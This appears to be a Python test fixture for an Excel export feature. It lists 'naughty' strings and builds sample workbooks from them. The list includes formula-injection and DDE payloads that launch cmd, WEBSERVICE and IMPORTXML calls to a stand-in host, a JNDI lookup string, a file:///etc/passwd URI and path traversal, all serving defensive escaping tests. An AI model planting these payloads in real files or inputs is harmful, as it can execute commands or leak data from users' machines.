"""Workbooks to test with, and texts that spreadsheet programs have been fooled by."""

from datetime import UTC, date, datetime

from finsam_review.reporting.excel.workbook import Column, SheetContent, Value, Workbook

CREATED = datetime(2025, 10, 15, 14, 32, tzinfo=UTC)

NAUGHTY = (
    "=1+1", "=", "==", "+46 70-174 06 05", "+1", "-", "-1", "- punkt", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM", "%0A=1", ";=1", ",=1", "'=1+1", '"=1+1',
    '=HYPERLINK("http://x.example","här")', "=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")', "{=1+1}",
    '=IMPORTXML("http://x.example","//a")', '=WEBSERVICE("http://x.example")', "#N/A", "#REF!",
    "#DIV/0!", "TRUE", "SANT", "NaN", "1E10", "1e5", "007", "1-2", "2025/11", "2025-10-15", "10:30",
    "1 185 000", "50 %", "0x1F", "1.5", "1,5", "₁₂₃", "½", "_x0041_", "_x000D_", "_x005F_x0041_",
    "_xD83D_", "&amp;", "<b>fet</b>", "<f>1+1</f>", "]]>", "<!--", "&#10;", "</t></is></c></row>",
    '<row customHeight="1"', ' customHeight="1"', "${jndi:ldap://x}", "{{7*7}}", "%s %n",
    "http://x.example", "mailto:a@b.example", "\\\\server\\share", "file:///etc/passwd", "../../x",
    "C:\\x", "\x00noll", "\x07ring", "\x1besc", "a\x0bb", "a\x85b", "a\u2028b\u2029c", "\ufeffbom",
    "\ufffe", "\uffff", "\ud800", "\udfff\ud800", "\u202egnirts", "\u200b", "\u200d", "\xad", "￼",
    "\ufdd0", "\U0001ffff", "👍🏽", "👩\u200d💻", "🇸🇪",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "é", "سلام", "שלום", "中文", "ሰላም",
    "𝔸", "rad ett\nrad tv\xe5\n\nrad tre", "\n=1+1", "kolumn\tkolumn", "   mycket   luft   ", "\xa0",
    "\u3000", "x" * 300,
)  # fmt: skip
"""Formulas, dates and errors in disguise, escapes of every layer, control marks, hard letters."""

NOTE_COLUMNS = (
    Column("Nr", 6, "number"),
    Column("Diarienummer", 14),
    Column("Text", 60),
    Column("Sökt belopp", 16, "money"),
    Column("Inkommen", 13, "date"),
)


def a_row(text: str, *, number: int = 1) -> tuple[Value, ...]:
    """Return a row of :data:`NOTE_COLUMNS` with ``text`` in it."""
    return (number, "2025/041", text, 1_185_000, date(2025, 9, 10))


def a_sheet(*texts: str, name: str = "Lappar") -> SheetContent:
    """Return a sheet with a row for each text."""
    rows = tuple(a_row(text, number=number) for number, text in enumerate(texts, start=1))
    return SheetContent(name, NOTE_COLUMNS, rows)


def a_workbook(*sheets: SheetContent) -> Workbook:
    """Return a workbook of ``sheets``."""
    return Workbook("Alla lappar", "Samordningsförbundet", CREATED, sheets)
